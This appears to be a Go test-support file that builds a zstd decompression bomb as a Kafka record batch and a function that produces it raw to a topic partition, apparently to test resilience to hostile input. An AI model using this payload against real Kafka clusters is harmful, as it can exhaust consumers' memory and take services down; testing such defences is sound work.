package hostile

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"time"

	"github.com/klauspost/compress/zstd"
	"github.com/twmb/franz-go/pkg/kerr"
	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/kmsg"
)

// ZstdBomb returns a record batch, compressed with zstd, of one record
// whose value is inflated zero bytes: a few KB that decompress to
// inflated bytes. The batch is built by hand, as a client that does not
// bound what it compresses would send it.
func ZstdBomb(inflated int64) ([]byte, error) {
	var compressed bytes.Buffer
	enc, err := zstd.NewWriter(&compressed, zstd.WithEncoderLevel(zstd.SpeedFastest), zstd.WithEncoderCRC(false))
	if err != nil {
		return nil, err
	}
	// The record: length, attributes, timestamp delta, offset delta, no
	// key, the value's length, the value (streamed), no headers.
	valueLen := binary.AppendVarint(nil, inflated)
	body := int64(1+1+1+1+len(valueLen)) + inflated + 1
	rec := binary.AppendVarint(nil, body)
	rec = append(rec, 0)               // attributes
	rec = binary.AppendVarint(rec, 0)  // timestamp delta
	rec = binary.AppendVarint(rec, 0)  // offset delta
	rec = binary.AppendVarint(rec, -1) // no key
	rec = append(rec, valueLen...)     // value length
	if _, err := enc.Write(rec); err != nil {
		return nil, err
	}
	if _, err := io.CopyN(enc, zeros{}, inflated); err != nil {
		return nil, err
	}
	if _, err := enc.Write(binary.AppendVarint(nil, 0)); err != nil { // no headers
		return nil, err
	}
	if err := enc.Close(); err != nil {
		return nil, err
	}
	now := time.Now().UnixMilli()
	b := kmsg.RecordBatch{
		PartitionLeaderEpoch: -1,
		Magic:                2,
		Attributes:           4, // zstd
		FirstTimestamp:       now,
		MaxTimestamp:         now,
		ProducerID:           -1,
		ProducerEpoch:        -1,
		FirstSequence:        -1,
		NumRecords:           1,
		Records:              compressed.Bytes(),
	}
	raw := b.AppendTo(nil)
	binary.BigEndian.PutUint32(raw[8:12], uint32(len(raw)-12))
	binary.BigEndian.PutUint32(raw[17:21], crc32.Checksum(raw[21:], crc32.MakeTable(crc32.Castagnoli)))
	return raw, nil
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// ProduceBatch writes batch, a record batch as ZstdBomb returns, to
// topic's partition through cl, as it is: the broker stores it without
// decompressing it.
func ProduceBatch(ctx context.Context, cl *kgo.Client, topic string, partition int32, batch []byte) error {
	meta := kmsg.NewPtrMetadataRequest()
	mt := kmsg.NewMetadataRequestTopic()
	mt.Topic = kmsg.StringPtr(topic)
	meta.Topics = append(meta.Topics, mt)
	metaResp, err := meta.RequestWith(ctx, cl)
	if err != nil {
		return fmt.Errorf("the metadata of %s: %w", topic, err)
	}
	if len(metaResp.Topics) != 1 || metaResp.Topics[0].ErrorCode != 0 {
		return fmt.Errorf("the metadata of %s: no such topic", topic)
	}
	req := kmsg.NewPtrProduceRequest()
	req.Acks = -1
	req.TimeoutMillis = 10_000
	rt := kmsg.NewProduceRequestTopic()
	rt.Topic = topic
	rt.TopicID = metaResp.Topics[0].TopicID // produce v13 names topics by ID
	rp := kmsg.NewProduceRequestTopicPartition()
	rp.Partition = partition
	rp.Records = batch
	rt.Partitions = append(rt.Partitions, rp)
	req.Topics = append(req.Topics, rt)
	resp, err := req.RequestWith(ctx, cl)
	if err != nil {
		return fmt.Errorf("producing the batch: %w", err)
	}
	for _, t := range resp.Topics {
		for _, p := range t.Partitions {
			if err := kerr.ErrorForCode(p.ErrorCode); err != nil {
				return fmt.Errorf("producing the batch to %s[%d]: %w", topic, partition, err)
			}
		}
	}
	return nil
}
